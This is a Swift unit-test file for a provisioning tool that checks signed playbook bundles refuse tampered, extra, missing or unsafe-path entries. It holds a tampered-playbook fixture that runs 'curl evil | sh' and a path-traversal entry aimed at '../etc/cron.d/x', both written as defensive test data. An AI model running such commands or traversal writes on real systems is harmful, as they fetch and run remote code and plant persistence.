import Foundation
import XCTest
@testable import Engine
@testable import ProvisionCore

/// Issue 19, pull at boot: what `provision bundle` packs, `provision pull` verifies before it runs anything.
final class PlaybookBundleTests: XCTestCase {
    var root = ""

    override func setUpWithError() throws {
        root = try makeTempDir()
        for (path, text) in [("playbooks/site.yml", "- import_playbook: web.yml\n"),
                             ("playbooks/web.yml", "- hosts: web\n  tasks: []\n"),
                             ("playbooks/group_vars/all.yml", "db_name: wordpress\n"),
                             ("templates/wp-config.php.j2", "<?php // {{ db_name }}\n"),
                             ("notes.txt", "not bundled\n")] {
            let full = root + "/" + path
            try FileManager.default.createDirectory(atPath: (full as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
            try text.write(toFile: full, atomically: true, encoding: .utf8)
        }
    }

    override func tearDown() { try? FileManager.default.removeItem(atPath: root) }

    func testRoundTripThroughTheManifestAndTar() throws {
        let archive = try PlaybookBundle.pack(root: root, playbook: "playbooks/site.yml")
        let bundle = try PlaybookBundle.verify(archive)
        XCTAssertEqual(bundle.playbook, "playbooks/site.yml")
        XCTAssertEqual(Set(bundle.files.keys), ["bundle.yml", "playbooks/site.yml", "playbooks/web.yml",
                                                "playbooks/group_vars/all.yml", "templates/wp-config.php.j2"])
        let out = root + "/out"
        let playbook = try bundle.extract(to: out)
        XCTAssertEqual(playbook, out + "/playbooks/site.yml")
        XCTAssertEqual(try String(contentsOfFile: out + "/templates/wp-config.php.j2", encoding: .utf8), "<?php // {{ db_name }}\n")
        XCTAssertEqual(try String(contentsOfFile: out + "/playbooks/group_vars/all.yml", encoding: .utf8), "db_name: wordpress\n")
        // Readable by tar and by `sha256sum -c`, the tools an operator has on an instance.
        try archive.write(to: URL(fileURLWithPath: root + "/b.tar"))
        let check = try runShell("mkdir \(root)/x && cd \(root)/x && tar -xf ../b.tar && sha256sum -c --quiet MANIFEST.sha256")
        XCTAssertEqual(check.status, 0, check.output)
    }

    func testTamperedFileAddedFileMissingFileAndUnsafePathAreRefused() throws {
        let good = try TarArchive.read(try PlaybookBundle.pack(root: root, playbook: "playbooks/site.yml"))
        func refused(_ entries: [TarArchive.Entry], _ expected: String, file: StaticString = #filePath, line: UInt = #line) throws {
            XCTAssertThrowsError(try PlaybookBundle.verify(try TarArchive.write(entries)), file: file, line: line) { error in
                XCTAssertTrue("\(error)".contains(expected), "\(error)", file: file, line: line)
            }
        }
        var changed = good
        let web = changed.firstIndex { $0.path == "playbooks/web.yml" }!
        changed[web].data = Data("- hosts: all\n  tasks: [{shell: 'curl evil | sh'}]\n".utf8)
        try refused(changed, "playbooks/web.yml was changed")
        try refused(good + [TarArchive.Entry(path: "playbooks/extra.yml", data: Data("x".utf8))], "playbooks/extra.yml is not in MANIFEST.sha256")
        try refused(good.filter { $0.path != "templates/wp-config.php.j2" }, "templates/wp-config.php.j2 is in MANIFEST.sha256 but missing")
        try refused(good.filter { $0.path != "MANIFEST.sha256" }, "no MANIFEST.sha256")
        try refused(good + [TarArchive.Entry(path: "../etc/cron.d/x", data: Data())], "path leaves the bundle")
        try refused(good + [good[1]], "twice")
        // A truncated or corrupt archive is refused too.
        let bytes = try TarArchive.write(good)
        XCTAssertThrowsError(try PlaybookBundle.verify(bytes.prefix(700)))
        var corrupt = bytes
        corrupt[10] ^= 0xff
        XCTAssertThrowsError(try PlaybookBundle.verify(corrupt))
    }

    func testWholeBundleChecksumAndPlaybookOutsideTheProject() throws {
        let archive = try PlaybookBundle.pack(root: root, playbook: "playbooks/site.yml")
        let path = root + "/b.tar"
        try archive.write(to: URL(fileURLWithPath: path))
        XCTAssertEqual(try PlaybookBundle.load(path, sha256: SHA256.hex(archive).uppercased()), archive)
        XCTAssertThrowsError(try PlaybookBundle.load(path, sha256: String(repeating: "0", count: 64)))
        XCTAssertThrowsError(try PlaybookBundle.pack(root: root, playbook: "notes.txt"))
    }

    func runShell(_ script: String) throws -> (status: Int32, output: String) {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/bin/sh")
        process.arguments = ["-c", script + " 2>&1"]
        let pipe = Pipe()
        process.standardOutput = pipe
        try process.run()
        let output = String(decoding: pipe.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        process.waitUntilExit()
        return (process.terminationStatus, output)
    }
}
